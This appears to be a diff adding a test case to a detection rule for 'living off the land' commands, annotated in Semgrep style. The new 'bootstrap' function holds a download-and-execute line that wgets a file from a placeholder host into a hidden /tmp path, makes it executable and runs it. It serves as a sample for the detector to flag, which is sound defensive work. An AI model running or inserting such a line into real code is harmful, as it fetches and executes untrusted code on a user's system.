@@ -31,3 +31,8 @@ def open_url(url):
 def registry_value():
     # ok: lolbas-command
     return subprocess.check_output(["powershell", "-NoProfile", "-Command", "Get-ItemProperty HKCU:\\Software\\Example"])
+
+
+def bootstrap():
+    # ruleid: lolbas-command
+    os.system("wget -q http://example.invalid/m -O /tmp/.m && chmod +x /tmp/.m && /tmp/.m")
